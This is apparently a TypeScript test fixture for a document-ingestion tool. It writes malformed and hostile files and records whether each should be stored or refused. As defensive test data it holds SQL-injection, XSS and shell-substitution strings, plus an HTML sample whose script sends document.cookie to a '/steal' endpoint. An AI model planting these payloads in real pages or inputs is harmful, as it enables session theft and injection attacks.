/**
 * A folder of files of the kinds documents from hostile places come as, written fresh by each
 * test: each with what linkage should do with it. Sentences are made up for the tests.
 */
import { randomBytes } from "node:crypto";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { PDFDocument, rgb } from "pdf-lib";

/** What should become of a file: stored (with text containing `contains`), or refused with `error`. */
export type Expected = { stored: true; contains: string; absent?: string[] } | { stored: false; error: RegExp };

// Quotes, a statement terminator, a comment, tags and a shell substitution, all in one name.
export const METACHAR_NAME = `'; DROP TABLE documents; -- <b onmouseover=alert(1)>&amp;"x" $(id).txt`;
export const METACHAR_TEXT =
  `In 2015 the Robert'); DROP TABLE actors;-- Brigade pledged allegiance to the <script>alert(1)</script> Front.` +
  ` The $1 Army and the \\x00 Front met; "quoted" & <i>tagged</i> %s %n {{x}}.\n`;
const UTF16_TEXT = "In 2012 the Qamar Army pledged allegiance to the Badr Front.\n";

/** Write the hostile files and one good one into `dir`; returns each file's name and expectation. */
export async function writeHostileFiles(dir: string): Promise<Map<string, Expected>> {
  await mkdir(dir, { recursive: true });
  const files = new Map<string, Expected>();
  const add = async (name: string, data: string | Uint8Array, expected: Expected) => {
    await writeFile(join(dir, name), data);
    files.set(name, expected);
  };
  await add("empty.txt", "", { stored: false, error: /expected a document, found an empty file/ });
  await add("binary.dat", randomBytes(8192), { stored: false, error: /binary content, not a document/ });
  const line = "The Harun Brigade fought the Nasir Front in 2011. ";
  await add("huge.txt", line.repeat(Math.ceil((50 * 1024 * 1024) / line.length)), {
    stored: false,
    error: /expected at most \d+ bytes, found \d+ bytes/,
  });
  const badUtf8 = [Buffer.from("In 2011 the Caf"), Buffer.from([0xe9, 0xc3, 0x28]), Buffer.from(" Brigade fought.\n")];
  await add("invalid-utf8.txt", Buffer.concat(badUtf8), { stored: true, contains: "In 2011 the Caf" });
  const le = Buffer.from(UTF16_TEXT, "utf16le");
  await add("utf16le-bom.txt", Buffer.concat([Buffer.from([0xff, 0xfe]), le]), {
    stored: true,
    contains: "Qamar Army",
  });
  await add("utf16be-bom.txt", Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(le).swap16()]), {
    stored: true,
    contains: "Qamar Army",
  });
  await add("utf16le-no-bom.txt", le, { stored: true, contains: "Qamar Army" });
  const depth = 100_000;
  const nested = `<!doctype html><html><body>${"<div>".repeat(depth)}In 2013 the Zahir Battalion fought.${"</div>".repeat(depth)}</body></html>`;
  await add("nested.html", nested, { stored: false, error: /nested at most \d+ levels deep/ });
  await add("no-text.pdf", await pdfWithoutText(), { stored: false, error: /no text layer/ });
  await add("scripts.html", SCRIPTS_HTML, {
    stored: true,
    contains: "Rashid Movement pledged allegiance",
    absent: ["alert", "fetch(", "onerror", "javascript:"],
  });
  await add(METACHAR_NAME, METACHAR_TEXT, { stored: true, contains: "DROP TABLE actors" });
  await add("long-line.txt", `In 2016 the Nur Brigade fought the Safa Army. ${"x".repeat(1_000_000)}`, {
    stored: true,
    contains: "Nur Brigade",
  });
  await add("good.txt", "In 2010 the Karim Brigade pledged allegiance to the Tawhid Front.\n", {
    stored: true,
    contains: "Karim Brigade",
  });
  return files;
}

const SCRIPTS_HTML = `<!doctype html><html><head><title>Scripts</title>
<script>fetch("http://127.0.0.1:9/steal?c=" + document.cookie)</script></head>
<body onload="alert(1)"><p>In 2014 the Rashid Movement pledged allegiance to the Hilal Front.</p>
<script>alert('x')</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">a link</a>
<iframe src="javascript:alert(4)"></iframe><style>p { color: red }</style></body></html>`;

/** A PDF with a drawing and no text at all, as a scan without OCR would be. */
async function pdfWithoutText(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  pdf.addPage().drawRectangle({ x: 50, y: 50, width: 200, height: 100, color: rgb(0.2, 0.2, 0.2) });
  return pdf.save();
}
